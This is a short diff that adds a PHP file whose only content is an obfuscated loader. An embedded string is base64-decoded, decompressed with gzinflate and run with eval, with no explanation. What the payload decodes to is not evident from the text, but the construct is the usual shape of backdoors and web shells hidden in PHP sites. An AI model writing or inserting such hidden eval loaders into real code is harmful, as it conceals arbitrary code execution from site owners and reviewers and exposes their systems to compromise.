@@ -1,0 +1,3 @@
+<?php
+$payload = gzinflate(base64_decode('S0lNzlfILFYoSsxLKUpNBgA='));
+eval($payload);
